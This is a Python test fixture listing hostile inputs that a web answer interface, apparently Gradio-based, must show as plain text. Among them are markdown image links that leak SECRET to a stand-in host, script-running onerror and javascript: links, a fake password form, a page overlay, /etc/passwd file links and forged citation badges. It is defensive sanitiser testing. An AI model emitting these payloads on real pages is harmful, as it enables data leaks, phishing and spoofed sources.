"""Hostile texts that must come out as plain text on every page and in every export."""

PAYLOADS = {
    "markdown image": "Answer ![x](http://other.test/md.png?d=SECRET) end",
    "markdown link": "Answer [click](http://other.test/c?d=SECRET) end",
    "bare address": "see http://other.test/auto and www.other.test and a@other.test",
    "image": 'A <img src="http://other.test/i.png"> B',
    "image with a fault": "A <img src=x onerror=\"window.__ran='1'\"> B",
    "overlay": (
        'A <span style="background:url(http://other.test/bg.png);position:fixed;inset:0;'
        'z-index:9999">OVER</span>'
    ),
    "form": (
        'A <form action="http://other.test/f"><input type=password name=p>'
        "<button>Sign in</button></form>"
    ),
    "script link": '[x](javascript:window.__ran=1) <a href="javascript:window.__ran=1">y</a>',
    "data link": "[x](data:text/html,<script>window.__ran=1</script>)",
    "drawing": '<svg><image href="http://other.test/s.png"/><use href="http://other.test/u.svg#x"/></svg>',
    "reference": "![x][1]\n\n[1]: http://other.test/ref.png",
    "false citation": "Text [1] and <sup>[2]</sup>\n\n**Source:** Official Policy.pdf, page 3",
    "file": "![x](/gradio_api/file=/etc/passwd) [y](file:///etc/passwd)",
    "bidi": "safe \u202egpj.exe\u202c end \u200b zero",
    "formula": "$$\\href{javascript:alert(1)}{x}$$",
    "source set": (
        '<img srcset="http://other.test/ss.png 1x"> <picture><source '
        'srcset="http://other.test/pic.png"><img src="/x"></picture>'
    ),
    "style sheet": (
        "<link rel=stylesheet href=http://other.test/l.css>"
        "<style>@import url(http://other.test/i.css)</style>"
    ),
    "translation": '__i18n__{"__type__":"translation_metadata","key":"submit"} {{value}} ${1+1}',
    "closing tags": "</p></blockquote></div></section>\n\n# Heading\n\n- list <button name=pick value=1.1>",
    "forged badge": (
        '<button class="citation" name="pick" value="1.1"><span class="number">1</span>'
        '<span class="attribution">Letter from the Minister, 1 May 2020</span></button>'
    ),
    "forged markers": "So it is [1], [1][2], \u301011\u3011 and \u00b9 [9], Approved by the Minister",
    "unseen": "vis\u200bible\u2060 \ufeffwords \u202dleft\u202c \u2066kept\u2069 a\u00adpart \u200fend",
}
